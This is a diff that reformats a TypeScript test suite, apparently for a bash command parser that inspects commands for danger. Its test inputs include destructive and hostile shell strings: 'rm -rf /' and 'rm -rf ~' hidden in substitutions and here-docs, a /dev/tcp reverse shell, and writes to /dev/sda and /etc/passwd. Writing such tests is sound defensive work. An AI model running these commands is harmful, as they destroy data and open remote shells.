@@ -55,12 +55,21 @@ describe('compound commands', () => {
   it("applies a compound command's redirections to every command inside", () => {
     for (const cmd of ['{ a; b; } > /dev/sda', '(a; b) > /dev/sda']) {
       const p = read(cmd);
-      expect(p.segments.map((s) => s.redirects.map((r) => `${r.op}${r.target.text}`))).toEqual([['>/dev/sda'], ['>/dev/sda']]);
+      expect(p.segments.map((s) => s.redirects.map((r) => `${r.op}${r.target.text}`))).toEqual([
+        ['>/dev/sda'],
+        ['>/dev/sda'],
+      ]);
     }
   });
 
   it('reads every branch of if/elif/else', () => {
-    expect(lines(read('if a; then b; elif c; then rm -rf /; else rm -rf ~; fi'))).toEqual(['a', 'b', 'c', 'rm -rf /', 'rm -rf ~']);
+    expect(lines(read('if a; then b; elif c; then rm -rf /; else rm -rf ~; fi'))).toEqual([
+      'a',
+      'b',
+      'c',
+      'rm -rf /',
+      'rm -rf ~',
+    ]);
   });
 
   it('reads the bodies of while, until, for, select and arithmetic for loops', () => {
@@ -86,10 +95,18 @@ describe('compound commands', () => {
   });
 
   it('takes the digits written against a redirection as its descriptor, not an argument (`cat 0< f`)', () => {
-    for (const [cmd, argv] of [['cat 0< f', 'cat'], ['cat 0<f', 'cat'], ['rm -rf 0</dev/null /', 'rm -rf /'], ['git 0</dev/null push -f origin main', 'git push -f origin main']] as const) {
+    for (const [cmd, argv] of [
+      ['cat 0< f', 'cat'],
+      ['cat 0<f', 'cat'],
+      ['rm -rf 0</dev/null /', 'rm -rf /'],
+      ['git 0</dev/null push -f origin main', 'git push -f origin main'],
+    ] as const) {
       const p = read(cmd);
       expect(line(p.segments[0]!), cmd).toBe(argv);
-      expect(p.segments[0]?.redirects.map((r) => [r.fd, r.op]), cmd).toEqual([[0, '<']]);
+      expect(
+        p.segments[0]?.redirects.map((r) => [r.fd, r.op]),
+        cmd,
+      ).toEqual([[0, '<']]);
     }
     // With a space between, the digits are an argument.
     expect(line(read('echo 0 < f').segments[0]!)).toBe('echo 0');
@@ -116,7 +133,13 @@ describe('functions', () => {
 
 describe('substitutions', () => {
   it('runs command substitutions anywhere in a word, with via `$(…)`', () => {
-    for (const cmd of ['echo $(rm -rf ~)', 'echo "$(rm -rf ~)"', 'echo `rm -rf ~`', 'echo "`rm -rf ~`"', 'echo x$(rm -rf ~)y']) {
+    for (const cmd of [
+      'echo $(rm -rf ~)',
+      'echo "$(rm -rf ~)"',
+      'echo `rm -rf ~`',
+      'echo "`rm -rf ~`"',
+      'echo x$(rm -rf ~)y',
+    ]) {
       const rm = only(read(cmd), 'rm');
       expect(line(rm)).toBe('rm -rf ~');
       expect(rm.via).toEqual(['$(…)']);
@@ -197,7 +220,9 @@ describe('redirections', () => {
   it('reads `<>` (read-write), which tree-sitter-bash does not know, without calling it broken', () => {
     const p = read('exec 3<>/dev/tcp/203.0.113.7/80');
     expect(p.complete).toBe(true);
-    expect(p.segments[0]?.redirects.map((r) => [r.op, r.fd, r.target.text])).toEqual([['<>', 3, '/dev/tcp/203.0.113.7/80']]);
+    expect(p.segments[0]?.redirects.map((r) => [r.op, r.fd, r.target.text])).toEqual([
+      ['<>', 3, '/dev/tcp/203.0.113.7/80'],
+    ]);
   });
 
   it('reads redirections written before the command', () => {
@@ -243,7 +268,10 @@ describe('every word is read, wherever it stands', () => {
   it('reads the descriptor tree-sitter files under the redirection before (`>& x 0>&1`)', () => {
     const seg = read('bash -i >& /dev/tcp/203.0.113.7/4444 0>&1').segments[0]!;
     expect(line(seg)).toBe('bash -i');
-    expect(seg.redirects.map((r) => [r.op, r.fd, r.target.text])).toEqual([['>&', null, '/dev/tcp/203.0.113.7/4444'], ['>&', 0, '1']]);
+    expect(seg.redirects.map((r) => [r.op, r.fd, r.target.text])).toEqual([
+      ['>&', null, '/dev/tcp/203.0.113.7/4444'],
+      ['>&', 0, '1'],
+    ]);
   });
 
   it('reads the words tree-sitter leaves out of the tree (the `-` before a here-doc)', () => {
@@ -322,7 +350,13 @@ describe('every word is read, wherever it stands', () => {
   });
 
   it('keeps the redirection of a statement that runs no command', () => {
-    for (const cmd of ['[[ -f x ]] > /etc/passwd', '[ -f x ] > /etc/passwd', '((i++)) > /etc/passwd', '{ x=1; } > /etc/passwd', 'while false; do :; done > /etc/passwd']) {
+    for (const cmd of [
+      '[[ -f x ]] > /etc/passwd',
+      '[ -f x ] > /etc/passwd',
+      '((i++)) > /etc/passwd',
+      '{ x=1; } > /etc/passwd',
+      'while false; do :; done > /etc/passwd',
+    ]) {
       const targets = read(cmd).segments.flatMap((s) => s.redirects.map((r) => r.target.text));
       expect(targets, cmd).toContain('/etc/passwd');
     }
@@ -368,7 +402,7 @@ describe('substitutions hidden where tree-sitter does not parse them', () => {
     'cat <(rm -rf ~)',
     'echo hi > >(rm -rf ~)',
     'git commit -F - <<EOF\nfix `rm -rf ~` here\nEOF',
-    'cat <<EOF\nit\'s ${x:-`rm -rf ~`}\nEOF',
+    "cat <<EOF\nit's ${x:-`rm -rf ~`}\nEOF",
     'echo `echo \\`rm -rf ~\\``',
     'echo "`echo \\`rm -rf ~\\``"',
   ])('%j runs the hidden `rm -rf ~`', (cmd) => {
@@ -378,13 +412,24 @@ describe('substitutions hidden where tree-sitter does not parse them', () => {
   });
 
   it('runs nothing in a quoted here-doc or an escaped backtick', () => {
-    for (const cmd of ["git commit -F - <<'EOF'\nfix `rm -rf ~`\nEOF", 'git commit -F - <<\\EOF\nfix `rm -rf ~`\nEOF', 'cat <<EOF\nfix \\`rm -rf ~\\`\nEOF', "echo ${x:-'`rm -rf ~`'}", 'echo \\`rm -rf ~\\`']) {
-      expect(read(cmd).segments.filter((s) => s.argv[0]?.text === 'rm'), cmd).toEqual([]);
+    for (const cmd of [
+      "git commit -F - <<'EOF'\nfix `rm -rf ~`\nEOF",
+      'git commit -F - <<\\EOF\nfix `rm -rf ~`\nEOF',
+      'cat <<EOF\nfix \\`rm -rf ~\\`\nEOF',
+      "echo ${x:-'`rm -rf ~`'}",
+      'echo \\`rm -rf ~\\`',
+    ]) {
+      expect(
+        read(cmd).segments.filter((s) => s.argv[0]?.text === 'rm'),
+        cmd,
+      ).toEqual([]);
     }
   });
 
   it('says when a backtick in a here-doc never closes', () => {
-    expect(read('cat <<EOF\na `rm -rf ~\nEOF').problems).toContain('a backtick in a here-document that is never closed');
+    expect(read('cat <<EOF\na `rm -rf ~\nEOF').problems).toContain(
+      'a backtick in a here-document that is never closed',
+    );
   });
 
   it('keeps the outer word as written, once', () => {
@@ -422,7 +467,9 @@ describe('words', () => {
   });
 
   it("decodes $'…' escapes", () => {
-    expect(words("echo $'a\\nb' $'\\x41\\101\\u00e9' $'it\\'s'")).toEqual(['a\nb', 'AAé', "it's"].map((text) => ({ text, known: true })));
+    expect(words("echo $'a\\nb' $'\\x41\\101\\u00e9' $'it\\'s'")).toEqual(
+      ['a\nb', 'AAé', "it's"].map((text) => ({ text, known: true })),
+    );
   });
 
   it('reads $"…" as the string inside', () => {
@@ -438,22 +485,47 @@ describe('words', () => {
   });
 
   it('keeps expansions as written and marks them unknown', () => {
-    expect(only(read('echo $HOME/x ${DIR}/ "a $x" $(pwd) $((1+2)) *.log a?c [ab]c {1..3} x{a,b}{1..2} ${y}{a,b}'), 'echo').argv.slice(1)).toEqual(
-      ['$HOME/x', '${DIR}/', 'a $x', '$(pwd)', '$((1+2))', '*.log', 'a?c', '[ab]c', '{1..3}', 'x{a,b}{1..2}', '${y}{a,b}'].map((text) => ({ text, known: false })),
+    expect(
+      only(
+        read('echo $HOME/x ${DIR}/ "a $x" $(pwd) $((1+2)) *.log a?c [ab]c {1..3} x{a,b}{1..2} ${y}{a,b}'),
+        'echo',
+      ).argv.slice(1),
+    ).toEqual(
+      [
+        '$HOME/x',
+        '${DIR}/',
+        'a $x',
+        '$(pwd)',
+        '$((1+2))',
+        '*.log',
+        'a?c',
+        '[ab]c',
+        '{1..3}',
+        'x{a,b}{1..2}',
+        '${y}{a,b}',
+      ].map((text) => ({ text, known: false })),
     );
   });
 
   it('expands unquoted brace lists into words, as bash does before anything else', () => {
-    expect(lines(read('echo {a,b} x{1,2}y ~/{.ssh,.aws} {a,{b,c}} {} {x} "{a,b}" \\{a,b}'))).toEqual(['echo a b x1y x2y ~/.ssh ~/.aws a b c {} {x} {a,b} {a,b}']);
+    expect(lines(read('echo {a,b} x{1,2}y ~/{.ssh,.aws} {a,{b,c}} {} {x} "{a,b}" \\{a,b}'))).toEqual([
+      'echo a b x1y x2y ~/.ssh ~/.aws a b c {} {x} {a,b} {a,b}',
+    ]);
     expect(lines(read('{rm,-rf,~}'))).toEqual(['rm -rf ~']);
   });
 
   it('treats quoted or escaped glob characters as plain text', () => {
-    expect(words(`echo '*.log' "a?c" \\* '[ab]' \\[x]`)).toEqual(['*.log', 'a?c', '*', '[ab]', '[x]'].map((text) => ({ text, known: true })));
+    expect(words(`echo '*.log' "a?c" \\* '[ab]' \\[x]`)).toEqual(
+      ['*.log', 'a?c', '*', '[ab]', '[x]'].map((text) => ({ text, known: true })),
+    );
   });
 
   it('reads bracket globs split over several nodes as one unknown word', () => {
-    expect(words('rm -rf [!.]* x[0-9].txt')).toEqual([{ text: '-rf', known: true }, { text: '[!.]*', known: false }, { text: 'x[0-9].txt', known: false }]);
+    expect(words('rm -rf [!.]* x[0-9].txt')).toEqual([
+      { text: '-rf', known: true },
+      { text: '[!.]*', known: false },
+      { text: 'x[0-9].txt', known: false },
+    ]);
   });
 
   it('keeps a leading tilde as written, known', () => {
@@ -500,7 +572,8 @@ describe('what cannot be read', () => {
   });
 
   it('reads an empty command and a comment as nothing, completely', () => {
-    for (const cmd of ['', '   ', '# rm -rf /']) expect(read(cmd)).toEqual({ segments: [], complete: true, problems: [] });
+    for (const cmd of ['', '   ', '# rm -rf /'])
+      expect(read(cmd)).toEqual({ segments: [], complete: true, problems: [] });
   });
 
   it('reads the labelled corpus: every command into segments, and all but a few completely', () => {
